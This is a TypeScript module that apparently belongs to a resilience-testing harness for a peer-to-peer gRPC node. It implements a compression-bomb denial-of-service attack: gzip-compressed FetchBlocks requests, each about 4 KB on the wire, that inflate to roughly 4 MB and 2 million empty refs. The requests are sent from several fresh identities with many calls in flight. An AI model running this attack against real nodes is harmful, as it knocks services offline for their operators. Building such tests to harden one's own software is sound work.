/**
 * Attack 1, compressed oversized requests: FetchBlocks requests naming ~2M empty refs (≈ 4 MB, just
 * under the 4 MiB message limit once decompressed) sent gzip-compressed, so each costs the attacker
 * ≈ 4 KB on the wire and the victim a 4 MB inflate and, unless it refuses first, a decode into 2M
 * objects. Several identities, several requests in flight each, answered or not.
 */
import { gzipSync } from "node:zlib"
import { loops, scaled, type Attack } from "../attack.js"
import { freshIdentity } from "../identity.js"
import { grpcFrame, rawCall, SessionSlot } from "../h2.js"

/** Empty refs in one request: 2 bytes each (tag, zero length), ≈ 4 MB in all. */
const EMPTY_REFS = 2_000_000
const IDENTITIES = 4
const IN_FLIGHT_PER_IDENTITY = 4

/** Gzip-compressed FetchBlocks requests of ~2M empty refs, several in flight per identity. */
export const compressedOversized: Attack = async (context) => {
  const message = Buffer.alloc(EMPTY_REFS * 2)
  for (let i = 0; i < EMPTY_REFS; i++) message[2 * i] = 0x0a // field 1 (block_refs), wire type 2, length 0
  const frame = grpcFrame(gzipSync(message, { level: 9 }), true)
  context.counters.set("compressedBytes", frame.length)
  context.counters.set("decompressedBytes", message.length)
  const slots = Array.from({ length: scaled(context.plan, IDENTITIES) }, () => new SessionSlot(context.plan.victim.address, freshIdentity()))
  await Promise.all(slots.map((slot) => slot.session()))
  context.ready()
  await loops(context, slots.length * scaled(context.plan, IN_FLIGHT_PER_IDENTITY), async (index) => {
    const session = await slots[index % slots.length]!.session()
    const outcome = await rawCall(session, "/soma.p2p.v1.P2p/FetchBlocks", frame, { headers: { "grpc-encoding": "gzip" }, timeoutMs: 15_000 })
    context.counters.add("requests")
    context.counters.status(outcome.status)
  })
  context.counters.set("reconnects", slots.reduce((n, slot) => n + slot.reconnects, 0))
  await Promise.all(slots.map((slot) => slot.close()))
}
